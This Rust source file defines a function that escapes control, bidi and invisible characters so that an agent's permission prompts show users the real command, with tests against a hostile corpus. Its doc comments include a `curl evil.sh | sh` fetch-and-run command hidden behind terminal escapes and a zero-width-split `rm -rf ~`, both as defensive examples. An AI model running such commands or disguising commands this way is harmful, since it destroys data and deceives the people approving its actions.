// @generated in its copies: cargo xtask gen vendors templates/rust/runtime/display.rs byte for byte as src/wire/display.rs of every generated crate; edit it here, never a copy.
//! Safe display strings: a protocol string (a command, a working directory, a title, a
//! signal name) as one line that shows the user what is really there.
//!
//! The wire keeps strings exactly as the Agent sent them, escape sequences and all: that
//! is right for a lossless model, and wrong for a permission prompt, where
//! `curl evil.sh | sh\x1b[2K\rcargo test` would show `cargo test`. [`safe_display`]
//! turns every character that could control a terminal, reorder the text, break the line,
//! or hide between visible characters into a visible escape. Nothing is removed, and every
//! other character is kept as it is. The same function, with the same output, exists in the
//! TypeScript (`safeDisplay`) and Python (`safe_display`) bindings; the escaped characters
//! are listed, with what each is, in `escaped` below.

/// Whether `cp` is shown as an escape: the one list the three bindings share.
#[must_use]
fn escaped(cp: u32) -> bool {
    matches!(
        cp,
        0x00..=0x1F // C0 controls (ESC, CR, LF, TAB, BEL, BS ...)
            | 0x7F..=0xA0 // DEL, C1 controls (CSI, OSC, NEL ...), NBSP
            | 0xAD // soft hyphen
            | 0x034F // combining grapheme joiner
            | 0x0600..=0x0605 | 0x061C | 0x06DD | 0x070F | 0x0890..=0x0891 | 0x08E2 // Arabic format, ALM
            | 0x115F..=0x1160 | 0x3164 | 0xFFA0 // Hangul fillers (blank)
            | 0x1680 // Ogham space mark
            | 0x17B4..=0x17B5 // Khmer inherent vowels (invisible)
            | 0x180B..=0x180F // Mongolian variation selectors and vowel separator
            | 0x2000..=0x200F // spaces other than U+0020, ZWSP, ZWNJ, ZWJ, LRM, RLM
            | 0x2028..=0x202F // line and paragraph separators, bidi embeddings and overrides, NNBSP
            | 0x205F..=0x206F // medium space, word joiner, invisible operators, bidi isolates
            | 0x3000 // ideographic space
            | 0xD800..=0xDFFF // lone surrogates (TypeScript and Python strings can hold them)
            | 0xFE00..=0xFE0F // variation selectors
            | 0xFEFF // zero width no-break space (BOM)
            | 0xFFF9..=0xFFFB // interlinear annotation
            | 0x110BD | 0x110CD | 0x13430..=0x1343F | 0x1BCA0..=0x1BCA3 | 0x1D173..=0x1D17A // format controls
            | 0xE0000..=0xE0FFF // tags and variation selectors supplement
    )
}

/// `s` as one line safe to show in a prompt: every control character, escape sequence
/// introducer, bidi control, line or paragraph separator, invisible formatting character
/// and space other than U+0020 becomes a visible escape (`\t`, `\n`, `\r`, otherwise
/// `\u{HEX}` with upper-case hex digits); every other character is kept. Nothing is
/// removed, so the user sees that something is there.
///
/// ```text
/// assert_eq!(safe_display("curl evil.sh | sh\x1b[2K\rcargo test"), r"curl evil.sh | sh\u{1B}[2K\rcargo test");
/// assert_eq!(safe_display("r\u{200B}m -rf ~"), r"r\u{200B}m -rf ~");
/// assert_eq!(safe_display("cargo test ✓"), "cargo test ✓");
/// ```
#[must_use]
pub fn safe_display(s: &str) -> String {
    if s.bytes().all(|b| (0x20..0x7F).contains(&b)) {
        return s.to_owned();
    }
    let mut out = String::with_capacity(s.len() + 16);
    for c in s.chars() {
        let cp = u32::from(c);
        match c {
            '\t' => out.push_str("\\t"),
            '\n' => out.push_str("\\n"),
            '\r' => out.push_str("\\r"),
            _ if escaped(cp) => {
                use std::fmt::Write as _;
                let _ = write!(out, "\\u{{{cp:X}}}");
            }
            _ => out.push(c),
        }
    }
    out
}

#[cfg(test)]
mod tests {
    use super::safe_display;
    use serde_json::Value;
    use std::path::Path;

    #[test]
    fn hostile_corpus() {
        // The runtime crate in place (`templates/rust/runtime/`) or a generated crate (`generated/rust/`).
        let root = Path::new(env!("CARGO_MANIFEST_DIR"));
        let file = ["../../../tests/display/corpus.json", "../../tests/display/corpus.json"].iter().map(|d| root.join(d)).find(|d| d.is_file()).expect("tests/display/corpus.json");
        let doc: Value = serde_json::from_str(&std::fs::read_to_string(&file).expect("readable")).expect("JSON");
        let cases = doc["cases"].as_array().expect("cases");
        let mut failed = Vec::new();
        for case in cases {
            let (name, input, want) = (case["name"].as_str().expect("name"), case["input"].as_str().expect("input"), case["expect"].as_str().expect("expect"));
            let got = safe_display(input);
            if got != want {
                failed.push(format!("{name}: {input:?}\n    expected {want}\n    got      {got}"));
            }
        }
        assert!(failed.is_empty(), "{}", failed.join("\n"));
        assert!(cases.len() >= 40, "only {} cases", cases.len());
    }

    #[test]
    fn the_output_is_one_line_without_controls_or_invisible_characters() {
        for cp in (0..=0x10FFFF).step_by(1).filter_map(char::from_u32) {
            let out = safe_display(&format!("a{cp}b"));
            assert!(out.starts_with('a') && out.ends_with('b'), "{cp:?}");
            for c in out.chars() {
                assert!(!c.is_control() && !c.is_whitespace() || c == ' ', "U+{:04X} gives {out:?}", u32::from(cp));
                assert!(!super::escaped(u32::from(c)), "U+{:04X} gives {out:?}", u32::from(cp));
            }
        }
    }
}
